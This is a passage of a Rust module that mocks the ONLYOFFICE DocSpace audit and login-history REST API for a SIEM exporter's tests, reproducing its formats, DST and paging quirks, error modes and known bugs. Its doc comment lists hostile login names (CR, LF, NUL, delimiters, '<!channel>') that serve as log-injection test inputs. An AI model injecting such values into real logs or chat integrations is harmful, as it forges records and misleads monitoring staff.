//! An in-process mock of the ONLYOFFICE DocSpace audit and login-history REST API.
//!
//! Role: the integration tests and the `docspace-siem demo` command talk to this over real HTTP
//! (axum on a loopback port) exactly as they would to a portal. It is built from
//! `docs/docspace-api.md` (which was read out of the DocSpace-server source) and the wire fixtures,
//! and reproduces these quirks on purpose:
//!
//! - **Envelope** `{"response":[..],"count":N,"links":[{"href":<request URL as received>,"action":"GET"}],
//!   "status":0,"statusCode":200}` in that key order, no `total`, null members omitted (`login`,
//!   `target`), `entries: []` kept, non-ASCII literal, `Content-Type: application/json; charset=utf-8`.
//! - **Dates** rendered in the portal zone with that instant's offset (`+01:00`/`+02:00` across a
//!   Berlin DST change, `Z` for a zero offset) and a 7-digit fraction that is always `.0000000`,
//!   because rows are stored like a MySQL `datetime` (whole seconds, UTC).
//! - **Date input** (`from`/`to`, inclusive): `YYYY-MM-DDTHH:MM:SS` (or `HH-MM-SS`) with an optional
//!   3- or 7-digit fraction and a `Z`/`±hh:mm`. A value without a zone (also a bare `YYYY-MM-DD`)
//!   is a 400 like every other bad value, as DocSpace v3.7.1+ answers it (`ApiDateTime.Parse` hits
//!   a null `TenantManager`). [`Simulator::set_server_local_offset`] switches to the pre-3.7.1
//!   reading instead: the value is read in the *server process's* zone, not the portal's, so a
//!   client that forgets `Z` gets silently wrong windows. Anything else (6 fractional digits, a `+`
//!   that arrived as a space) gives the 400 `ValidationProblemDetails` wrapped in the envelope.
//! - **Paging**: `login/filter` takes the page window first (`ORDER BY date DESC, id DESC` → Skip →
//!   Take) and filters inside it, so pages can be short or empty while older matches exist;
//!   `events/filter` filters first (normal paging). `count` defaults to 100 and must be 1..=100;
//!   `startIndex <= 0` is ignored. Query names are case-insensitive; `action` takes a code or a
//!   `MessageAction` name, `-1`/`None` means no filter, an undefined value (`0`, `1`, `abc`) is a 400.
//! - **Ids** are a per-table auto-increment with gaps (other tenants share the table), assigned at
//!   insertion, so a late row with an older date gets a larger id.
//! - **IP** is stored as written and cut at the first `:` when rendered (IPv6 → `"2a02"`).
//! - **Auth**: only `Authorization: Bearer <sk-key>`; anything else is a 401 with an empty body.
//!   `GET /api/2.0/authentication` is anonymous-allowed and answers `true`/`false`.
//! - **Modes** ([`SimMode`]): 401 everywhere, 403 "Access denied", 402 plan error, the silent
//!   free-plan fallback where the filter endpoints ignore every parameter and return the latest 20
//!   rows with substituted action values cut to 47 chars + `...` (like `*/last`), the same fallback
//!   while the quota says `audit: true` (the Login History section hidden by the server's
//!   configuration), and an unpaid portal whose API routes answer a bare 402 with an empty body
//!   (`PaymentFilter`, after authentication, before model binding; skipped when the request says
//!   `Payment-Info: false`, and not applied to the quota, which is `[AllowNotPayment]`).
//! - **Quota** `GET /api/2.0/portal/quota`: the tenant's `TenantQuota` (camelCase members in
//!   declaration order, nulls omitted) with `audit` and the `features` string of the plan: the
//!   paid "admin" plan, or the free "startup" plan (no `audit`) in [`SimMode::NoAuditPlan`].
//! - **v3.7.2 bugs**, each off by default:
//!   - [`Simulator::set_fall_back_bug`]: a row of the first pass of the repeated hour after a DST
//!     fall-back is rendered with the standard offset, one hour later than it happened, while
//!     `from`/`to` still compare with the true stored instant (§14.2);
//!   - [`Simulator::set_random_tie_order`]: rows of the same second come in a fresh random order
//!     in every answer and Skip/Take cuts that order, so offset paging across a busy second can
//!     skip one row and repeat another (`ORDER BY date` only, §14.3);
//!   - [`Simulator::insert_null_ip_login`]: a login row with a NULL ip turns every login answer
//!     that would hold it into a 500 `NullReferenceException` envelope (§14.4).
//! - **Unmapped audit actions** ([`UNMAPPED_AUDIT_ACTIONS`]): rows the server writes with an
//!   action none of its mappers knows are left out of `events/filter` without `action` and of
//!   `events/last`; an `action=` filter for one gives a 500 when the answer holds such a row.
//! - **Faults** ([`SimFault`]) for the next filter requests: 429 with an empty body, `Retry-After`
//!   (0 allowed) and `X-RateLimit-*`; 500/503 error envelopes; a 502 HTML page from a proxy; a
//!   truncated or non-JSON 200; a delay. Live inserts between page requests shift the offsets.
//! - **Data** ([`Simulator::generate`], [`Simulator::spawn_live`]): a pool of users, documentation
//!   IPs, private IPs with empty geolocation, truncated IPv6, brute-force bursts (1013 then 1023)
//!   with hostile login names (`|`, `=`, `\`, `"`, `]`, CR, LF, NUL, U+2028, `<!channel>`, very long),
//!   and audit actions with the real `actionType`/`product`/`location`/`entries` mappings.

use std::borrow::Cow;
use std::collections::{BTreeMap, VecDeque};
use std::fmt::Write as _;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{HeaderName, HeaderValue, Method, StatusCode, header};
use axum::response::Response;
use serde::Serialize;
use time::{Date, Month, OffsetDateTime, PrimitiveDateTime, Time, UtcOffset};
use tokio_util::sync::CancellationToken;

/// The DocSpace Guest user id: the `userId` of failed and anonymous login attempts.
pub const GUEST_USER_ID: &str = "712d9ec3-5d2b-4b13-824f-71f00191dcca";

/// A "server process local zone" (minutes east of UTC) for the legacy reading of zone-less dates
/// ([`Simulator::set_server_local_offset`]); far enough from UTC that forgetting `Z` is visible.
pub const DEFAULT_SERVER_LOCAL_OFFSET_MINUTES: i32 = 180;

/// `MessageAction` codes that DocSpace-server writes to `audit_events` but that none of its action
/// mappers knows, so the API never returns them (§14.5).
///
/// Source: DocSpace-server v3.7.2 (commit `ed2994e74f`). `AuditEventsRepository.cs`
/// (`GetByFilterWithActionsAsync`) keeps, when no `action` is given, only the codes of
/// `AuditActionMapper.Mappers`, i.e. the dictionaries in `Mappers/DocumentsActionMapper.cs`,
/// `LoginActionMapper.cs`, `PeopleActionMapper.cs` and `SettingsActionMapper.cs`
/// (all under `common/services/ASC.AuditTrail/`). These are the members of
/// `common/ASC.Core.Common/Messaging/MessageAction.cs` that appear in none of them. Asking for one
/// with `action=` returns its rows, and `AuditEventDto`'s constructor then dereferences the missing
/// mapping (`maps.ActionType`): a 500. Emitters in v3.7.2: 5083 and 5101 (`FilesSettings.cs`),
/// 5098, 5102, 5103 (`FileStorageService.cs`, `HistoryService.cs`), 7001 (`InvitationValidator.cs`),
/// 7004 (`PaymentsController.cs`); 5104, 5105, 7002 and 7003 were written by earlier versions
/// (rows stay in the table).
pub const UNMAPPED_AUDIT_ACTIONS: &[i32] = &[
    5083, // DocumentsKeepNewFileNameSettingsUpdated
    5098, // RoomExternalLinkRenamed
    5101, // DocumentsDisplayFileExtensionUpdated
    5102, // RoomColorChanged
    5103, // RoomCoverChanged
    5104, // RoomIndexingChanged
    5105, // RoomDenyDownloadChanged
    7001, // RoomInviteLinkUsed
    7002, // UserCreatedAndAddedToRoom
    7003, // GuestCreatedAndAddedToRoom
    7004, // ContactSalesMailSent
];

/// Whether the audit API leaves rows of `code` out (see [`UNMAPPED_AUDIT_ACTIONS`]).
fn is_unmapped(code: i32) -> bool {
    UNMAPPED_AUDIT_ACTIONS.contains(&code)
}

/// First id handed out in `login_events` (the real table is global, so ids are large).
const LOGIN_FIRST_ID: i64 = 48_101;
/// First id handed out in `audit_events`.
const AUDIT_FIRST_ID: i64 = 91_501;
/// Number of rows returned by `*/last` and by the no-audit-plan fallback.
const LAST_COUNT: usize = 20;
/// Portal base URL used in generated `page` values.
const PORTAL: &str = "https://docspace.example.com";

// ---------------------------------------------------------------------------------------------
// Public types
// ---------------------------------------------------------------------------------------------

/// Which table an event lives in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SimStream {
    /// `login_events`, served by `/security/audit/login/*`.
    Login,
    /// `audit_events`, served by `/security/audit/events/*`.
    Audit,
}

/// Portal time zone used to render `date` (the real API renders in the portal's zone with that
/// instant's offset).
#[derive(Debug, Clone, Copy)]
pub enum SimZone {
    /// UTC: dates end in `Z`.
    Utc,
    /// A fixed offset in minutes east of UTC (e.g. `-300` for UTC-05:00). Out-of-range values
    /// fall back to UTC.
    Fixed {
        /// Minutes east of UTC.
        minutes: i32,
    },
    /// Europe/Berlin: CET +01:00, CEST +02:00 from the last Sunday of March 01:00 UTC to the last
    /// Sunday of October 01:00 UTC.
    EuropeBerlin,
    /// A zone that falls back from `minutes + 60` to `minutes` east of UTC at the UTC instant
    /// `at` (and never springs forward), so that a test can put the repeated hour around "now".
    FallBackAt {
        /// The instant of the fall-back (whole seconds).
        at: OffsetDateTime,
        /// The standard offset after it, in minutes east of UTC.
        minutes: i32,
    },
}

impl SimZone {
    /// The offset of this zone at the UTC instant `at`.
    pub fn offset_at(&self, at: OffsetDateTime) -> UtcOffset {
        match *self {
            SimZone::Utc => UtcOffset::UTC,
            SimZone::Fixed { minutes } => minutes
                .checked_mul(60)
                .and_then(|s| UtcOffset::from_whole_seconds(s).ok())
                .unwrap_or(UtcOffset::UTC),
            SimZone::EuropeBerlin => {
                let utc = at.checked_to_offset(UtcOffset::UTC).unwrap_or(at);
                let year = utc.year();
                let summer = match (
                    eu_dst_switch(year, Month::March),
                    eu_dst_switch(year, Month::October),
                ) {
                    (Some(start), Some(end)) => utc >= start && utc < end,
                    _ => false,
                };
                let hours = if summer { 2 } else { 1 };
                UtcOffset::from_hms(hours, 0, 0).unwrap_or(UtcOffset::UTC)
            }
            SimZone::FallBackAt { at: back, minutes } => {
                let m = if at < back { minutes + 60 } else { minutes };
                m.checked_mul(60)
                    .and_then(|s| UtcOffset::from_whole_seconds(s).ok())
                    .unwrap_or(UtcOffset::UTC)
            }
        }
    }

    /// Renders `at` the way DocSpace's `ApiDateTime` does: `yyyy-MM-ddTHH:mm:ss.fffffff` in this
    /// zone followed by `+hh:mm`/`-hh:mm`, or `Z` when the offset is zero.
    pub fn format(&self, at: OffsetDateTime) -> String {
        let offset = self.offset_at(at);
        render_wall(at.checked_to_offset(offset).unwrap_or(at), offset)
    }

    /// Renders `at` as DocSpace v3.7.2 really does (§14.2): the instant becomes portal wall time,
    /// and a wall time that is *ambiguous* (inside the hour repeated after a DST fall-back) is
    /// read back as standard time. So the first pass of that hour comes out one hour late: in
    /// Europe/Berlin, `2025-10-26T00:30:00Z` (02:30 CEST) renders as
    /// `2025-10-26T02:30:00.0000000+01:00`, the instant 01:30Z. Every other instant renders as
    /// [`SimZone::format`] does.
    pub fn format_with_fall_back_bug(&self, at: OffsetDateTime) -> String {
        let offset = self.offset_at(at);
        let wall = at.checked_to_offset(offset).unwrap_or(at);
        render_wall(wall, self.ambiguous_standard_offset(at).unwrap_or(offset))
    }

    /// The standard offset when `at` falls in the first pass of a repeated wall-clock hour
    /// (daylight time, one hour before the fall-back), else `None`.
    fn ambiguous_standard_offset(&self, at: OffsetDateTime) -> Option<UtcOffset> {
        match *self {
            SimZone::Utc | SimZone::Fixed { .. } => None,
            SimZone::EuropeBerlin => {
                let utc = at.checked_to_offset(UtcOffset::UTC).unwrap_or(at);
                let back = eu_dst_switch(utc.year(), Month::October)?;
                let first_pass = utc >= back.checked_sub(time::Duration::HOUR)? && utc < back;
                first_pass
                    .then(|| UtcOffset::from_hms(1, 0, 0).ok())
                    .flatten()
            }
            SimZone::FallBackAt { at: back, minutes } => {
                let first_pass = at >= back.checked_sub(time::Duration::HOUR)? && at < back;
                first_pass
                    .then(|| UtcOffset::from_whole_seconds(minutes.checked_mul(60)?).ok())
                    .flatten()
            }
        }
    }
}

/// `ApiDateTime.ToRoundTripString`: the wall-clock fields of `local` followed by `offset`
/// (`Z` when zero). The two differ only when the server pairs a wall time with the wrong offset.
fn render_wall(local: OffsetDateTime, offset: UtcOffset) -> String {
    let mut out = format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:07}",
        local.year(),
        u8::from(local.month()),
        local.day(),
        local.hour(),
        local.minute(),
        local.second(),
        local.nanosecond() / 100
    );
    let secs = offset.whole_seconds();
    if secs == 0 {
        out.push('Z');
    } else {
        let sign = if secs < 0 { '-' } else { '+' };
        let minutes = secs.unsigned_abs() / 60;
        let _ = write!(out, "{sign}{:02}:{:02}", minutes / 60, minutes % 60);
    }
    out
}

/// 01:00 UTC on the last Sunday of `month` (March or October) of `year`: the EU DST switch.
fn eu_dst_switch(year: i32, month: Month) -> Option<OffsetDateTime> {
    let last = Date::from_calendar_date(year, month, 31).ok()?;
    let back = i64::from(last.weekday().number_days_from_sunday());
    let sunday = last.checked_sub(time::Duration::days(back))?;
    Some(PrimitiveDateTime::new(sunday, Time::from_hms(1, 0, 0).ok()?).assume_utc())
}

/// Behaviour of the portal as a whole.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SimMode {
    /// Everything works.
    Normal,
    /// 401 with an empty body for every request on a known route (the key was revoked).
    /// `GET /authentication` answers `false`.
    Unauthorized,
    /// The key's owner is not an admin: audit endpoints answer 403 "Access denied".
    Forbidden,
    /// The plan lacks the audit feature (cloud): audit endpoints answer 402 "Your pricing plan does
    /// not support this option" (`BillingException` of the audit permission checks). The quota,
    /// which makes no such check, still answers.
    PaymentRequired,
    /// The silent fallback: filter endpoints ignore every parameter and return the latest 20
    /// events (newest first) with shortened action text. The quota is the free "startup" plan:
    /// `audit: false`, no `audit` in `features`.
    NoAuditPlan,
    /// The Login History section is hidden by the server's configuration
    /// (`SetupInfo.IsVisibleSettings("LoginHistory")` is false) while the plan has audit: the
    /// quota says `audit: true`, and the filter endpoints still fall back exactly like
    /// [`SimMode::NoAuditPlan`] (§14.1).
    HiddenLoginHistory,
    /// The portal is not paid (`PaymentFilter`): after authentication, every API route answers a
    /// bare 402 with an empty body and no envelope, before model binding, unless the request
    /// carries `Payment-Info: false`. The quota (`[AllowNotPayment]`) and `GET /authentication`
    /// still answer.
    Unpaid,
}

/// A one-shot fault applied to the next filter requests (login/filter or events/filter), in order.
///
/// Faults are consumed by filter requests as they arrive (before authentication, like a proxy or
/// rate limiter in front of the portal). `Delay` and `Truncated` then let the request run normally.
#[derive(Debug, Clone)]
pub enum SimFault {
    /// 429 with an empty body, `Retry-After` if `Some` (0 allowed), `X-RateLimit-Limit: 1500` and
    /// `X-RateLimit-Remaining: 0`.
    TooManyRequests {
        /// Seconds for the `Retry-After` header; `None` omits it (concurrency limiter).
        retry_after: Option<u32>,
    },
    /// The error envelope with this HTTP status (e.g. 500, 503).
    ServerError(u16),
    /// 502 with an nginx HTML body.
    BadGatewayHtml,
    /// 200 with a JSON content type and a body cut in the middle of the response array.
    Truncated,
    /// 200 with a JSON content type and a body that is not JSON.
    Malformed,
    /// Sleeps before answering normally.
    Delay(Duration),
}

/// Construction parameters of a [`Simulator`].
#[derive(Debug, Clone)]
pub struct SimConfig {
    /// The `sk-...` key accepted as `Authorization: Bearer <key>`.
    pub api_key: String,
    /// Portal time zone used to render dates.
    pub zone: SimZone,
    /// Seed of the random generator (data generation, id gaps, live timing).
    pub seed: u64,
}

/// One event as stored (the simulator's "database row"); the builders fill realistic values.
#[derive(Debug, Clone)]
pub struct SimEvent {
    /// Table of the row.
    pub stream: SimStream,
    /// Event time; any offset. Stored as UTC, truncated to whole seconds like MySQL `datetime`.
    pub date: OffsetDateTime,
    /// `MessageAction` code.
    pub action_id: i32,
    /// Display name shown as `user`.
    pub user: String,
    /// Actor GUID (lowercase, hyphenated).
    pub user_id: String,
    /// Initiator string (`login`); `None` omits the key. Login events only.
    pub login: Option<String>,
    /// Rendered `action` text (description values already substituted).
    pub action_text: String,
    /// Client IP as stored; rendered cut at the first `:` (IPv6 → first group).
    pub ip: String,
    /// Geolocation country (`""` when not located).
    pub country: String,
    /// Geolocation city (`""` when not located).
    pub city: String,
    /// `"{UA family} {major}"`.
    pub browser: String,
    /// `"{OS family} {major} {brand} {model}"`.
    pub platform: String,
    /// Full URL (Referer or request URL).
    pub page: String,
    /// `ActionType` (audit only).
    pub action_type: i32,
    /// `ProductType` (audit only).
    pub product: i32,
    /// `LocationType` (audit only).
    pub location: i32,
    /// Target items; `None` omits the key (audit only).
    pub target: Option<Vec<String>>,
    /// `EntryType` values (audit only).
    pub entries: Vec<i32>,
    /// Localized module/context text (audit only).
    pub context: String,
}

impl SimEvent {
    /// A login event with sensible defaults: a success by Alice Johnson (no `login`), or, for the
    /// failure codes 1002-1005, 1008, 1009, 1013, 1014, 1018, 1020, 1022, 1023, 1025, 1026, a
    /// Guest-GUID attempt with `login` = the typed user name. Logout (1006) carries the display
    /// name in `login`, as the real server writes it.
    pub fn login(date: OffsetDateTime, action_id: i32) -> Self {
        let alice = &USERS[0];
        let mut ev = SimEvent {
            stream: SimStream::Login,
            date,
            action_id,
            user: alice.name.to_owned(),
            user_id: alice.id.to_owned(),
            login: None,
            action_text: login_text(action_id).to_owned(),
            ip: alice.ip.to_owned(),
            country: alice.country.to_owned(),
            city: alice.city.to_owned(),
            browser: alice.browser.to_owned(),
            platform: alice.platform.to_owned(),
            page: format!("{PORTAL}/login"),
            action_type: 0,
            product: 0,
            location: 0,
            target: None,
            entries: Vec::new(),
            context: String::new(),
        };
        if is_login_failure(action_id) {
            ev.user = "bob@example.com".to_owned();
            ev.user_id = GUEST_USER_ID.to_owned();
            ev.login = Some("bob@example.com".to_owned());
            ev.ip = "192.0.2.66".to_owned();
            ev.country = String::new();
            ev.city = String::new();
            ev.browser = "Firefox 133".to_owned();
            ev.platform = "Ubuntu".to_owned();
        }
        match action_id {
            1006 => ev.login = Some(alice.name.to_owned()),
            1010 | 1012 | 1024 => ev.page = format!("{PORTAL}/api/2.0/authentication"),
            1015 | 1018 => ev.page = "https://login.microsoftonline.com/".to_owned(),
            1019 => ev.action_text = "Login Via Social Account Success: google".to_owned(),
            _ => {}
        }
        ev
    }

    /// An audit event with the action's real mapping (`actionType`, `product`, `location`,
    /// `entries`, context) and a plausible target and text, performed by Alice Johnson. Unknown
    /// codes get empty text and zero mappings, as the server renders unmapped actions.
    pub fn audit(date: OffsetDateTime, action_id: i32) -> Self {
        let alice = &USERS[0];
        let mut ev = SimEvent {
            stream: SimStream::Audit,
            date,
            action_id,
            user: alice.name.to_owned(),
            user_id: alice.id.to_owned(),
            login: None,
            action_text: String::new(),
            ip: alice.ip.to_owned(),
            country: alice.country.to_owned(),
            city: alice.city.to_owned(),
            browser: alice.browser.to_owned(),
            platform: alice.platform.to_owned(),
            page: format!("{PORTAL}/"),
            action_type: 0,
            product: 0,
            location: 0,
            target: None,
            entries: Vec::new(),
            context: String::new(),
        };
        if let Some(map) = audit_map(action_id) {
            ev.action_type = map.action_type;
            ev.product = map.product;
            ev.location = map.location;
            ev.entries = map.entries.to_vec();
            let (value, target) = match map.entries.first() {
                Some(1) => ("Q4-financials.xlsx", Some("15432")),
                Some(2) => ("Contracts", Some("2210")),
                Some(25) => ("Finance", Some("4821")),
                Some(23) => ("Eve Turner", Some("c4e7a0d2-5b8f-4c1e-9d3a-6f2b1e8c7d90")),
                _ => ("", None),
            };
            ev.action_text = render_template(map.template, value);
            ev.target = target.map(|t| vec![t.to_owned()]);
            match map.product {
                2 => {
                    ev.context = "Rooms: Finance".to_owned();
                    ev.page = format!("{PORTAL}/rooms/shared/4821/filter?folder=4821");
                }
                7 => {
                    ev.context = "Settings".to_owned();
                    ev.page = format!("{PORTAL}/portal-settings/security/audit-trail");
                }
                8 => {
                    ev.context = "Contacts".to_owned();
                    ev.page = format!("{PORTAL}/accounts/people/filter");
                }
                _ => {}
            }
        }
        ev
    }
}

/// One request served by the simulator.
#[derive(Debug, Clone)]
pub struct SimRequest {
    /// Path as received (not decoded).
    pub path: String,
    /// Raw query string as received (without `?`), empty when absent.
    pub query: String,
    /// Whether the credential was accepted.
    pub authorized: bool,
    /// HTTP status answered.
    pub status: u16,
}

/// A running HTTP server of a [`Simulator`]; stops when dropped or shut down.
pub struct SimServer {
    /// Bound address.
    pub addr: SocketAddr,
    /// `http://127.0.0.1:PORT`.
    pub url: String,
    shutdown: Option<tokio::sync::oneshot::Sender<()>>,
    task: Option<tokio::task::JoinHandle<()>>,
}

impl SimServer {
    /// Stops accepting connections, asks open connections to close, and aborts the server task.
    pub fn shutdown(self) {
        drop(self);
    }
}

impl Drop for SimServer {
    fn drop(&mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
        if let Some(task) = self.task.take() {
            task.abort();
        }
    }
}

impl std::fmt::Debug for SimServer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SimServer")
            .field("addr", &self.addr)
            .field("url", &self.url)
            .finish()
    }
}

// ---------------------------------------------------------------------------------------------
// State
// ---------------------------------------------------------------------------------------------

#[derive(Debug)]
struct Row {
    id: i64,
    ev: SimEvent,
    /// The `ip` column is NULL (the login conversion cannot render the row, §14.4).
    null_ip: bool,
}

#[derive(Debug)]
struct Table {
    rows: Vec<Row>,
    next_id: i64,
    /// Indices into `rows` ordered `date DESC, id DESC` (the order every page is cut from),
    /// kept up to date on single inserts and rebuilt once after a bulk load, so that a page of
    /// a large backlog costs O(page) instead of a sort of the whole table.
    order: Vec<u32>,
    /// Whether `order` describes every row.
    ordered: bool,
    /// Rows whose action is in [`UNMAPPED_AUDIT_ACTIONS`] (audit only): while there are none, a
    /// date range of `order` is exactly what the API can return.
    unmapped: usize,
}

impl Table {
    fn new(next_id: i64) -> Table {
        Table {
            rows: Vec::new(),
            next_id,
            order: Vec::new(),
            ordered: true,
            unmapped: 0,
        }
    }

    fn row(&self, index: u32) -> &Row {
        &self.rows[index as usize]
    }

    /// Whether row `a` comes before row `b` in `date DESC, id DESC` order.
    fn before(a: &Row, b: &Row) -> bool {
        (a.ev.date, a.id) > (b.ev.date, b.id)
    }

    fn push(&mut self, row: Row) {
        let index = u32::try_from(self.rows.len()).expect("fewer than 2^32 rows");
        if self.ordered {
            let at = self
                .order
                .partition_point(|&i| Table::before(&self.rows[i as usize], &row));
            self.order.insert(at, index);
        }
        if row.ev.stream == SimStream::Audit && is_unmapped(row.ev.action_id) {
            self.unmapped += 1;
        }
        self.rows.push(row);
    }

    /// Rebuilds `order` if a bulk load left it stale.
    fn ensure_ordered(&mut self) {
        if self.ordered {
            return;
        }
        let rows = &self.rows;
        let mut order: Vec<u32> = (0..rows.len() as u32).collect();
        order.sort_unstable_by(|&a, &b| {
            let (a, b) = (&rows[a as usize], &rows[b as usize]);
            (b.ev.date, b.id).cmp(&(a.ev.date, a.id))
        });
        self.order = order;
        self.ordered = true;
    }
}

/// A DocSpace-like sliding-window rate limiter (1,500 requests a minute per user when the
/// portal enables it): requests beyond `per_minute` within the last 60 s get a 429 with an
/// empty body and a truncated `Retry-After`; rejected requests do not count.
#[derive(Debug)]
struct RateWindow {
    per_minute: u32,
    admitted: VecDeque<std::time::Instant>,
}

/// An ongoing brute-force burst of the generator.
#[derive(Debug)]
struct Burst {
    remaining: u32,
    failures_before_lockout: u32,
    attacker: &'static Attacker,
    login: String,
}

#[derive(Debug)]
struct Inner {
    cfg: SimConfig,
    /// The server process zone for zone-less `from`/`to` (the pre-3.7.1 reading); `None` answers
    /// them with 400 like v3.7.1+.
    local_offset: Option<UtcOffset>,
    mode: SimMode,
    /// Render dates like v3.7.2 around a DST fall-back (§14.2).
    fall_back_bug: bool,
    /// Order rows of the same second at random in every answer (§14.3).
    random_ties: bool,
    login: Table,
    audit: Table,
    faults: VecDeque<(SimFault, u32)>,
    live_login: VecDeque<(usize, u32)>,
    live_audit: VecDeque<(usize, u32)>,
    requests: Vec<SimRequest>,
    rng: fastrand::Rng,
    burst: Option<Burst>,
    /// Added to every answer (network round trip plus server time).
    latency: Duration,
    /// The portal's rate limiter, when on.
    rate: Option<RateWindow>,
    /// Requests answered 429 by the rate limiter.
    rate_limited: u64,
}

impl Inner {
    fn table(&self, stream: SimStream) -> &Table {
        match stream {
            SimStream::Login => &self.login,
            SimStream::Audit => &self.audit,
        }
    }

    fn insert(&mut self, ev: SimEvent) -> i64 {
        self.insert_row(ev, false)
    }

    fn insert_row(&mut self, mut ev: SimEvent, null_ip: bool) -> i64 {
        ev.date = normalize_date(ev.date);
        // Other tenants write to the same global table: per-tenant ids have gaps.
        let gap = if self.rng.u8(..) < 20 {
            self.rng.i64(1..4)
        } else {
            0
        };
        let table = match ev.stream {
            SimStream::Login => &mut self.login,
            SimStream::Audit => &mut self.audit,
        };
        table.next_id += gap;
        let id = table.next_id;
        table.next_id += 1;
        table.push(Row { id, ev, null_ip });
        id
    }

    fn generate_one(&mut self, stream: SimStream, date: OffsetDateTime) -> SimEvent {
        match stream {
            SimStream::Login => gen_login(&mut self.rng, &mut self.burst, date),
            SimStream::Audit => gen_audit(&mut self.rng, date),
        }
    }

    /// Applies a pending `insert_during_paging` order for `stream`.
    fn apply_live_inserts(&mut self, stream: SimStream) {
        let queue = match stream {
            SimStream::Login => &mut self.live_login,
            SimStream::Audit => &mut self.live_audit,
        };
        let Some(front) = queue.front_mut() else {
            return;
        };
        let n = front.0;
        front.1 = front.1.saturating_sub(1);
        if front.1 == 0 {
            queue.pop_front();
        }
        let now = OffsetDateTime::now_utc();
        for _ in 0..n {
            let ev = self.generate_one(stream, now);
            self.insert(ev);
        }
    }

    fn next_fault(&mut self) -> Option<SimFault> {
        let front = self.faults.front_mut()?;
        let fault = front.0.clone();
        front.1 = front.1.saturating_sub(1);
        if front.1 == 0 {
            self.faults.pop_front();
        }
        Some(fault)
    }

    /// Rows of `stream` ordered `date DESC, id DESC`, as indices into its `rows`.
    #[cfg(test)]
    fn sorted(&mut self, stream: SimStream) -> &Table {
        let table = match stream {
            SimStream::Login => &mut self.login,
            SimStream::Audit => &mut self.audit,
        };
        table.ensure_ordered();
        table
    }

    /// The rate limiter's verdict on a request arriving now: `Some(retry_after)` rejects it.
    fn rate_check(&mut self) -> Option<u32> {
        let w = self.rate.as_mut()?;
        let now = std::time::Instant::now();
        let window = Duration::from_secs(60);
        while w
            .admitted
            .front()
            .is_some_and(|t| now.duration_since(*t) >= window)
        {
            w.admitted.pop_front();
        }
        if w.admitted.len() < w.per_minute as usize {
            w.admitted.push_back(now);
            return None;
        }
        let oldest = w.admitted.front().copied().unwrap_or(now);
        self.rate_limited += 1;
        // Whole seconds, truncated (so possibly 0), as RedisRateLimiting writes it.
        let wait = (oldest + window).saturating_duration_since(now);
        Some(u32::try_from(wait.as_secs()).unwrap_or(60))
    }
}

fn normalize_date(d: OffsetDateTime) -> OffsetDateTime {
    d.checked_to_offset(UtcOffset::UTC)
        .unwrap_or(d)
        .truncate_to_second()
}

// ---------------------------------------------------------------------------------------------
// Simulator
// ---------------------------------------------------------------------------------------------

/// The mock portal: an in-memory `login_events`/`audit_events` store plus an HTTP front end.
/// Cheap to clone (shared state).
#[derive(Clone)]
pub struct Simulator {
    inner: Arc<Mutex<Inner>>,
}

impl std::fmt::Debug for Simulator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let g = self.lock();
        f.debug_struct("Simulator")
            .field("mode", &g.mode)
            .field("login_rows", &g.login.rows.len())
            .field("audit_rows", &g.audit.rows.len())
            .finish()
    }
}

impl Simulator {
    /// A portal with empty tables, in [`SimMode::Normal`].
    pub fn new(cfg: SimConfig) -> Self {
        let rng = fastrand::Rng::with_seed(cfg.seed);
        let inner = Inner {
            cfg,
            local_offset: None,
            mode: SimMode::Normal,
            fall_back_bug: false,
            random_ties: false,
            login: Table::new(LOGIN_FIRST_ID),
            audit: Table::new(AUDIT_FIRST_ID),
            latency: Duration::ZERO,
            rate: None,
            rate_limited: 0,
            faults: VecDeque::new(),
            live_login: VecDeque::new(),
            live_audit: VecDeque::new(),
            requests: Vec::new(),
            rng,
            burst: None,
        };
        Simulator {
            inner: Arc::new(Mutex::new(inner)),
        }
    }

    fn lock(&self) -> MutexGuard<'_, Inner> {
        self.inner.lock().expect("simulator state poisoned")
    }

    /// Inserts a row; ids are a global auto-increment per table assigned at insertion (so a late
    /// row with an older date gets a larger id, like the real DB). Returns the id.
    pub fn insert(&self, ev: SimEvent) -> i64 {
        self.lock().insert(ev)
    }

    /// Inserts `n` realistic events of `stream` with dates spread evenly (with seeded jitter) over
    /// `[from, to]`, in date order (brute-force bursts are packed a few seconds apart).
    pub fn generate(&self, stream: SimStream, n: usize, from: OffsetDateTime, to: OffsetDateTime) {
        if n == 0 {
            return;
        }
        let (from, to) = if to < from { (to, from) } else { (from, to) };
        let from = normalize_date(from);
        let to = normalize_date(to);
        let span = i128::from((to - from).whole_seconds());
        let n_i = n as i128;
        let step = span / n_i;
        let mut g = self.lock();
        let mut events = Vec::with_capacity(n);
        let mut last_burst_date: Option<OffsetDateTime> = None;
        for i in 0..n {
            let jitter = if step > 1 {
                i128::from(g.rng.i64(0..i64::try_from(step).unwrap_or(i64::MAX)))
            } else {
                0
            };
            let offset = (span * i as i128 / n_i + jitter).min(span);
            let mut date = from + time::Duration::seconds(i64::try_from(offset).unwrap_or(0));
            // Brute-force bursts are packed a few seconds apart.
            match last_burst_date {
                Some(prev) if stream == SimStream::Login && g.burst.is_some() => {
                    date = (prev + time::Duration::seconds(g.rng.i64(1..5))).min(to);
                }
                _ => {}
            }
            let ev = g.generate_one(stream, date);
            last_burst_date = if g.burst.is_some() { Some(date) } else { None };
            events.push(ev);
        }
        events.sort_by_key(|e| e.date);
        // A bulk load: one sort afterwards instead of an ordered insert per row.
        let table = match stream {
            SimStream::Login => &mut g.login,
            SimStream::Audit => &mut g.audit,
        };
        table.ordered = false;
        for ev in events {
            g.insert(ev);
        }
    }

    /// Adds `latency` to every answer (a real portal's round trip plus server time; 0 = none).
    /// Requests wait concurrently, like separate connections to a real server.
    pub fn set_latency(&self, latency: Duration) {
        self.lock().latency = latency;
    }

    /// Turns on DocSpace's sliding-window rate limiter: beyond `per_minute` requests within
    /// the last 60 s, a request gets 429 with an empty body, `X-RateLimit-*` and a truncated
    /// `Retry-After` (possibly 0). `None` turns it off (the self-hosted default).
